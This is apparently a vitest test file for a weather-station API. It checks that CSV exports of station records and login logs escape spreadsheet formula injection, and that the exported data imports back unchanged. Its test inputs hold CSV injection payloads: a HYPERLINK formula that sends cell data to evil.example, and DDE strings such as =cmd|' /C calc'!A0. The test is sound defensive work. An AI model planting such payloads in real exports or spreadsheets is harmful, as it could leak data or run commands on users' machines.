import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../src/modules/stations/csv.js';
import { createTestApp, type TestApp } from './helpers.js';
import { addCustomer, addUser, call, multipart } from './revise-helpers.js';

/** Exports never hand a spreadsheet a formula: text cells starting with = + - @, tab or CR are neutralised. */
let t: TestApp;
let customer = 0;
let tok = '';
let admin = '';

const DANGEROUS = /^[=+\-@\t\r]/;

beforeAll(async () => {
  t = await createTestApp();
  customer = await addCustomer(t, '吐鲁番市气象局');
  tok = (await addUser(t, customer, 'csv-a', ['revise.point.admin'])).token;
  admin = (await t.login('admin')).access_token;
});
afterAll(async () => {
  await t.close();
});

const hostile = {
  stationNumber: '51573',
  name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  province: '+新疆',
  city: '-吐鲁番市',
  district: '@高昌区',
  address: '\t地址',
  longitude: -12.5,
  latitude: 42.93,
  altitude: -154,
  contactPerson: "'=已带引号",
  contactPhone: '+86 995 000 0000',
  remarks: "-2+3+cmd|' /C calc'!A0",
};
const stationRow = () =>
  t.db.db
    .selectFrom('station')
    .selectAll()
    .where('customer_id', '=', customer)
    .where('station_number', '=', '51573')
    .executeTakeFirstOrThrow();

describe('station export', () => {
  it('neutralises hostile text, quoted, and keeps negative numbers numeric', async () => {
    const added = await call(t, tok, 'POST', '/api/station/insertStation', hostile);
    // The address' leading tab is trimmed by the station rules.
    expect(added.json()).toMatchObject({ code: 0, data: { ...hostile, address: '地址' } });
    const res = await call(t, tok, 'GET', '/api/station/export');
    const [header, row] = parseCsv(res.body);
    const cells = Object.fromEntries(header!.fields.map((h, k) => [h, row!.fields[k]!]));
    expect(cells).toMatchObject({
      stationNumber: '51573',
      name: `'${hostile.name}`,
      province: "'+新疆",
      city: "'-吐鲁番市",
      district: "'@高昌区",
      address: '地址',
      longitude: '-12.5',
      latitude: '42.93',
      altitude: '-154',
      contactPerson: "''=已带引号",
      contactPhone: "'+86 995 000 0000",
      remarks: `'${hostile.remarks}`,
    });
    for (const cell of row!.fields) {
      if (DANGEROUS.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
    }
    // Neutralised cells are written quoted; numbers are not.
    const line = res.body.replace(/^\ufeff/, '').split('\n')[1]!;
    expect(line).toContain('"\'+新疆","\'-吐鲁番市","\'@高昌区",地址,-12.5,42.93,-154,');
  });

  it('imports its own export back to exactly the stored station', async () => {
    const before = await stationRow();
    const csv = (await call(t, tok, 'GET', '/api/station/export')).body;
    const m = multipart({ name: 'stations.csv', bytes: csv });
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/station/import',
      payload: m.payload,
      headers: { ...m.headers, ...t.bearer(tok) },
    });
    expect(res.json()).toMatchObject({ code: 0, data: { inserted: 0, updated: 1, total: 1 } });
    const after = await stationRow();
    expect({ ...after, version: before.version, updated_at: before.updated_at }).toEqual(before);
    expect(after).toMatchObject({
      name: hostile.name,
      contact_phone: hostile.contactPhone,
      contact_person: hostile.contactPerson,
      longitude: -12.5,
    });
  });
});

describe('operation log export', () => {
  it('neutralises the username and user agent of an anonymous failed sign-in', async () => {
    const username = "=cmd|' /C calc'!A0";
    const agent = "@SUM(1+1)*cmd|' /C calc'!A0";
    const failed = await t.app.inject({
      method: 'POST',
      url: '/api/login/login',
      payload: { username, password: 'wrong!' },
      headers: { 'user-agent': agent },
    });
    expect(failed.json().code).toBe(4101);
    const res = await t.app.inject({ method: 'GET', url: '/api/log/export?action=login', headers: t.bearer(admin) });
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = parseCsv(res.body);
    const col = (name: string) => header!.fields.indexOf(name);
    const row = rows.find((r) => r.fields[col('username')] === `'${username}`);
    expect(row?.fields[col('agent')]).toBe(`'${agent}`);
    for (const r of rows) for (const cell of r.fields) if (DANGEROUS.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
    expect(res.body).toContain(`"'${username.replace(/"/g, '""')}"`);
  });
});
